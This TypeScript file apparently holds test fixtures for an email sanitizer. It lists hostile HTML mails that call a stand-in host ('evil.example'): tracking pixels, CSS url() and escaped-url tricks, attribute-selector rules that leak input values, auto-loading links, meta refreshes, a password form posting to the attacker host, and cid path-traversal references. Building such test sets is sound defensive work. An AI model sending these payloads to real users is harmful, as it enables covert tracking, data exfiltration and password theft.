import { EVIL, type HostileMail } from './hostileMail.ts';

/** Mails that want to ask somebody something: whether they are read, by whom, and what else is on the page. */
export const LOADS: readonly HostileMail[] = [
  {
    name: 'pictures that tell',
    html: `<p>Hi</p><img src="${EVIL}/pixel.gif" width="1" height="1"><img src="//evil.example/p.gif"><img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x"><picture><source srcset="${EVIL}/3.png"><img src="http://evil.example/4.png"></picture><input type="image" src="${EVIL}/5.png"><img lowsrc="${EVIL}/6.png" dynsrc="${EVIL}/7.avi">`,
  },
  {
    name: 'backgrounds',
    html: `<body background="${EVIL}/b.png"><table background="${EVIL}/t.png"><tr><td background="${EVIL}/d.png" style="background:url(${EVIL}/s.png)">Hi</td></tr></table><div style="background-image:url('${EVIL}/i.png');list-style-image:url(${EVIL}/l.png);border-image:url(${EVIL}/o.png);cursor:url(${EVIL}/c.cur),auto;content:url(${EVIL}/n.png);mask:url(${EVIL}/m.svg);filter:url(${EVIL}/f.svg#x)">Hi</div><div style="background:u\\72l(${EVIL}/e.png)">x</div><div style="background:image-set('${EVIL}/is.png' 1x)">x</div><div style="--x:url(${EVIL}/v.png);background:var(--x)">x</div>`,
  },
  {
    name: 'stylesheets',
    html: `<style>@import url(${EVIL}/i.css);@font-face{font-family:x;src:url(${EVIL}/f.woff)}body{font-family:x;background:url(${EVIL}/b.png)}a[href^="h"]{background:url(${EVIL}/a.png)}input[value^="a"]{background:url(${EVIL}/v.png)}</style><link rel="stylesheet" href="${EVIL}/s.css"><svg><style>@import "${EVIL}/svg.css";</style></svg><p style="font-family:x">Hi</p>`,
  },
  {
    name: 'links that load by themselves',
    html: `<link rel="prefetch" href="${EVIL}/1"><link rel="preload" as="image" href="${EVIL}/2"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="${EVIL}"><link rel="prerender" href="${EVIL}/3"><link rel="icon" href="${EVIL}/4"><link rel="manifest" href="${EVIL}/5"><p>Hi</p>`,
  },
  {
    name: 'sound and film',
    html: `<audio src="${EVIL}/a.mp3" autoplay></audio><video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay></video><video><track src="${EVIL}/t.vtt" default></video><bgsound src="${EVIL}/b.wav"><p>Hi</p>`,
  },
  {
    name: 'other pages',
    html: `<iframe src="${EVIL}"></iframe><frameset><frame src="${EVIL}"></frameset><object data="${EVIL}/o"></object><embed src="${EVIL}/e"><p>Hi</p>`,
  },
  {
    name: 'being led away',
    html: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/"><a href="relative" ping="${EVIL}/ping">x</a><a href="${EVIL}/top" target="_top">to the top</a><p>Hi</p>`,
  },
  {
    name: 'forms',
    html: `<form action="${EVIL}/login" method="post" target="_top"><input name="password" type="password" autofocus><button>Log in</button><input type="submit" formaction="${EVIL}/f"></form><isindex action="${EVIL}"><p>Hi</p>`,
  },
  {
    name: 'pictures of the mail that are none',
    html: `<img src="cid:page@x"><img src="cid:drawing@x"><img src="cid:../../../secret"><img src="cid:missing@x"><img src="cid:%00"><img src="CID:page@x"><img src="cid:${EVIL}/x.png"><p>Hi</p>`,
    attachments: [
      { filename: 'page.html', mimeType: 'text/html', contentId: 'page@x' },
      { filename: 'drawing.svg', mimeType: 'image/svg+xml', contentId: 'drawing@x' },
    ],
  },
];
